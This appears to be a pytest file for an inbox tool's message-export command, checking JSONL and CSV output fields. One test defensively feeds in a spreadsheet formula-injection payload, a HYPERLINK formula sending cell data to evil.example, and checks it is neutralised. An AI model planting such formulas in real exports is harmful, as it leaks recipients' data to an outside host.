"""`inbox export messages`: the documented, stable export format, in JSONL and CSV, through the real CLI."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from inbox.cli.main import main
from inbox.store.tables import Channel, Message
from tests.support.seed_desk import add_conversation

KEYS = [
    "channel",
    "platform_id",
    "direction",
    "visibility",
    "text",
    "author",
    "created_at",
    "conversation_id",
    "language",
    "sentiment",
    "sentiment_scores",
    "urgency",
    "urgency_reasons",
    "pii",
]
T0 = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
TEXT = 'Ma carte a été débitée deux fois 😡\nmail: lea@example.fr, "urgent"'


@pytest.fixture
def seeded(engine: Engine, db_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> list[int]:
    monkeypatch.setenv("INBOX_DATABASE_URL", db_url)
    with Session(engine) as s, s.begin():
        channel = Channel(name="x-acme", platform="x", account="AcmeCare", created_at=T0)
        s.add(channel)
        s.flush()
        assert channel.id is not None
        first = add_conversation(s, channel.id, handle="lea", text=TEXT, received=T0, due=None)
        second = add_conversation(s, channel.id, handle="max", text="hello", received=T0, due=None)
        s.flush()
        classified = s.exec(select(Message).where(Message.conversation_id == first)).one()
        classified.language, classified.sentiment, classified.urgency = "fr", "negative", "high"
        classified.sentiment_scores = {"negative": 0.8, "neutral": 0.15, "positive": 0.05}
        classified.urgency_reasons = ["rule:money_lost"]
        classified.pii = [{"kind": "email", "start": 41, "end": 56}]
        unknown = s.exec(select(Message).where(Message.conversation_id == second)).one()
        unknown.author_handle = None
    return [first, second]


def export(fmt: str, capsys: pytest.CaptureFixture[str]) -> str:
    capsys.readouterr()
    assert main(["export", "messages", "--format", fmt]) == 0
    return capsys.readouterr().out


def test_jsonl_has_the_documented_keys_and_the_text_exactly(
    seeded: list[int], capsys: pytest.CaptureFixture[str]
) -> None:
    lines = export("jsonl", capsys).splitlines()
    records = [json.loads(line) for line in lines]
    assert [list(r) for r in records] == [KEYS, KEYS]
    first, second = records
    assert first["text"] == TEXT and first["author"] == "lea" and first["conversation_id"] == seeded[0]
    assert first["created_at"] == "2026-03-01T10:00:00+00:00"
    assert (first["direction"], first["visibility"], first["channel"]) == ("in", "public", "x-acme")
    assert (first["language"], first["sentiment"], first["urgency"]) == ("fr", "negative", "high")
    assert first["urgency_reasons"] == ["rule:money_lost"] and first["pii"] == ["email"]
    assert second["author"] is None  # unknown author
    assert [second[k] for k in KEYS[8:]] == [None] * 6  # not classified yet


def test_csv_has_the_same_columns_and_values(seeded: list[int], capsys: pytest.CaptureFixture[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(export("csv", capsys))))
    assert list(rows[0]) == KEYS and len(rows) == 2
    assert rows[0]["text"] == TEXT and rows[0]["created_at"] == "2026-03-01T10:00:00+00:00"
    assert json.loads(rows[0]["pii"]) == ["email"] and json.loads(rows[0]["urgency_reasons"]) == [
        "rule:money_lost"
    ]
    assert rows[1]["author"] == "" and rows[1]["sentiment"] == ""


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
    engine: Engine, seeded: list[int], capsys: pytest.CaptureFixture[str]
) -> None:
    attack = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'
    with Session(engine) as s, s.begin():
        message = s.exec(select(Message).where(Message.conversation_id == seeded[1])).one()
        message.text = attack
    rows = list(csv.DictReader(io.StringIO(export("csv", capsys))))
    assert rows[1]["text"] == "'" + attack  # a leading apostrophe: the spreadsheet shows it as text
    assert rows[0]["text"] == TEXT
    assert json.loads(export("jsonl", capsys).splitlines()[1])["text"] == attack  # JSON stays exact
